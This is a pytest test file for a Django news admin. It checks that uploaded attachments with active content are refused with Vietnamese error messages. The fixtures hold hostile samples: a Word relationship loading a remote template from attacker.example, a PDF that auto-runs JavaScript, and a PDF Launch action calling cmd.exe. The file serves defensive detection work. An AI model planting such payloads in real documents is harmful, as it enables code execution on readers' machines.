"""Attachments with active content are refused through the article admin, in Vietnamese."""

import re

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core.files.checks import clean_attachment
from core.tests.test_file_inspection import REL, package, pdf
from news.models import Attachment
from news.tests.factories import admin_form_data


def upload(name, data):
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


TEMPLATE = (f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL}/attachedTemplate" Target="https://attacker.example/t.dotm" '
            'TargetMode="External"/></Relationships>')


@pytest.mark.parametrize(("name", "data", "message"), [
    ("ke-hoach.docx", package(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "có chứa macro"),
    ("ke-hoach.docx", package(parts={"word/_rels/settings.xml.rels": TEMPLATE}), "mẫu bên ngoài"),
    ("thong-bao.pdf", pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj"),
     "tự chạy khi mở (JavaScript)"),
    ("thong-bao.pdf", pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>endobj"), "(Launch)"),
])
def test_active_documents_are_refused(name, data, message):
    with pytest.raises(ValidationError, match=re.escape(message)):
        clean_attachment(upload(name, data))


@pytest.mark.django_db
def test_the_admin_inline_refuses_a_macro_document_and_keeps_the_article_text(client, draft, writer):
    client.force_login(writer)
    data = admin_form_data(draft, title="Tiêu đề đã sửa", **{
        "attachments-TOTAL_FORMS": "1", "attachments-0-title": "Kế hoạch",
        "attachments-0-file": upload("ke-hoach.docx", package(parts={"word/vbaProject.bin": b"x"})),
        "attachments-0-position": "0",
    })
    response = client.post(reverse("admin:news_article_change", args=[draft.pk]), data)
    assert response.status_code == 200
    assert "Tài liệu này có chứa macro (mã Visual Basic)" in response.text
    assert "Tiêu đề đã sửa" in response.text
    assert not Attachment.objects.exists()
